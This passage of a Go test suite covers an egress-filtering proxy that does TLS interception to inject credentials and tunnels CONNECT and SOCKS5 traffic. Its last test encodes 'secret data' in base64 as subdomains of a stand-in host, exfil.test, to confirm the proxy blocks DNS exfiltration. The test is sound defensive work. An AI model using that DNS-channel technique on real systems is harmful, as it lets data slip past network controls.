	// Upstreams: a TLS one (for MITM) and an echo server that holds tunnels open.
	tlsUp := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "ok") }))
	upRoots := x509.NewCertPool()
	upRoots.AddCert(tlsUp.Certificate())
	echo, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var echoWG sync.WaitGroup
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			echoWG.Add(1)
			go func() { defer echoWG.Done(); _, _ = io.Copy(c, c); c.Close() }()
		}
	}()
	echoPort := echo.Addr().(*net.TCPAddr).Port

	cred, _ := ParseCredential("example.com=Authorization:env:T", func(string) string { return "Bearer x" })
	rec := &dialRecorder{redirect: map[string]string{"127.0.0.1:443": tlsUp.Listener.Addr().String()}}
	p, err := New(Policy{
		Allow:       []Rule{mustRule(t, "example.com"), mustRule(t, "echo.test:"+strconv.Itoa(echoPort))},
		Resolve:     map[string]netip.Addr{"example.com": netip.MustParseAddr("127.0.0.1"), "echo.test": netip.MustParseAddr("127.0.0.1")},
		Credentials: []Credential{cred},
		RootCAs:     upRoots,
		Dial:        rec.dial,
		Resolver:    &testResolver{},
	})
	if err != nil {
		t.Fatal(err)
	}
	c := p.Call("c")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- c.Serve(l) }()

	echoDest := "echo.test:" + strconv.Itoa(echoPort)
	// A live CONNECT tunnel.
	tun, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer tun.Close()
	fmt.Fprintf(tun, "CONNECT %s HTTP/1.1\r\nHost: x\r\n\r\n", echoDest)
	tunR := bufio.NewReader(tun)
	if resp, err := http.ReadResponse(tunR, nil); err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", resp, err)
	}
	fmt.Fprint(tun, "ping")
	if b := make([]byte, 4); func() error { _, err := io.ReadFull(tunR, b); return err }() != nil || string(b) != "ping" {
		t.Fatalf("echo through the tunnel: %q", b)
	}
	// A live SOCKS5 tunnel.
	sd, _ := proxy.SOCKS5("tcp", l.Addr().String(), nil, proxy.Direct)
	sconn, err := sd.Dial("tcp", echoDest)
	if err != nil {
		t.Fatal(err)
	}
	defer sconn.Close()
	// A MITM'd connection, kept alive.
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(p.CACertPEM())
	pu, _ := url.Parse("http://" + l.Addr().String())
	tr := &http.Transport{Proxy: http.ProxyURL(pu), TLSClientConfig: &tls.Config{RootCAs: roots}}
	resp, err := (&http.Client{Transport: tr}).Get("https://example.com/")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	// A connection that has not said anything yet.
	quiet, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer quiet.Close()

	closed := make(chan error, 1)
	go func() { closed <- p.Close() }()
	select {
	case err := <-closed:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("Close did not return in 30 s")
	}
	if err := p.Close(); err != nil { // idempotent
		t.Fatal(err)
	}
	if err := <-served; err != nil {
		t.Errorf("Serve after Close: %v, want nil", err)
	}
	for name, conn := range map[string]net.Conn{"CONNECT tunnel": tun, "SOCKS5 tunnel": sconn, "quiet": quiet} {
		_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
		if _, err := io.Copy(io.Discard, conn); err != nil {
			t.Errorf("%s after Close: %v, want EOF", name, err)
		}
	}
	if err := c.Serve(l); !errors.Is(err, ErrClosed) {
		t.Errorf("Serve on a closed call: %v", err)
	}
	if c2 := p.Call("late"); c2.Serve(mustListen(t)) == nil {
		t.Error("Serve on a call of a closed proxy returned nil")
	}
	tr.CloseIdleConnections()
	echo.Close()
	echoWG.Wait()
	tlsUp.Close()
}

func mustListen(t *testing.T) net.Listener {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// TestMain fails the package if any goroutine outlives the tests: every test
// closes its proxy (t.Cleanup), and that must end all the proxy's goroutines.
func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

func TestCABundleAndEnv(t *testing.T) {
	cred, _ := ParseCredential("example.com=Authorization:env:T", func(string) string { return "x" })
	p, err := New(Policy{Credentials: []Credential{cred}, Allow: []Rule{mustRule(t, "example.com")}})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	sys := []byte("-----BEGIN CERTIFICATE-----\nsystem\n-----END CERTIFICATE-----")
	b := p.CABundle(sys)
	if !bytes.HasPrefix(b, sys) || !bytes.HasSuffix(b, p.CACertPEM()) || bytes.Contains(b, []byte("PRIVATE KEY")) {
		t.Fatalf("CABundle = %q", b)
	}
	// The session CA is constrained to the credential hosts.
	ca := pemCert(t, p.CACertPEM())
	if !ca.IsCA || len(ca.PermittedDNSDomains) != 1 || ca.PermittedDNSDomains[0] != "example.com" || ca.NotAfter.After(time.Now().Add(8*24*time.Hour)) {
		t.Fatalf("session CA: IsCA %v, permitted %q, not after %v", ca.IsCA, ca.PermittedDNSDomains, ca.NotAfter)
	}
	p2, _ := New(Policy{})
	defer p2.Close()
	if p2.CACertPEM() != nil || !bytes.Equal(p2.CABundle(sys), sys) {
		t.Fatal("a proxy without credentials has a CA")
	}
	env := strings.Join(ProxyEnv("127.0.0.1:3128"), " ")
	for _, want := range []string{"http_proxy=http://127.0.0.1:3128", "HTTPS_PROXY=http://127.0.0.1:3128", "ALL_PROXY=socks5h://127.0.0.1:3128", "no_proxy=localhost,127.0.0.1,::1"} {
		if !strings.Contains(env, want) {
			t.Errorf("ProxyEnv lacks %s: %s", want, env)
		}
	}
}

func pemCert(t *testing.T, b []byte) *x509.Certificate {
	t.Helper()
	blk, _ := pem.Decode(b)
	if blk == nil {
		t.Fatalf("no PEM in %q", b)
	}
	c, err := x509.ParseCertificate(blk.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// TestAddressRulesLookUpNoChosenName: an address or CIDR rule does not make
// the proxy resolve the names a call asks for on its port (to see whether
// they land in the range): the host's resolver would ask outside DNS servers
// any name the call made up, a way out for data ("no DNS of the call's own")
// under a policy that lets nothing out to anyone else. An address rule
// allows IP literals and pinned names (--resolve); a name needs a name rule.
func TestAddressRulesLookUpNoChosenName(t *testing.T) {
	e := start(t, Policy{}, []string{"10.1.2.3:5432", "10.0.0.0/8", "allowed.test"})
	_ = socksConnect(t, e.addr, 1, "c2VjcmV0LWRhdGE.exfil.test", 5432)
	if code, _ := get(t, e.httpClient(t, nil, ""), "http://bW9yZS1kYXRh.exfil.test/"); code == 200 {
		t.Fatal("a name no rule names was let through")
	}
	if n := e.res.lookups.Load(); n != 0 {
		t.Fatalf("the proxy looked up %d names the call made up, which no name rule allows: a DNS channel out", n)
	}
}
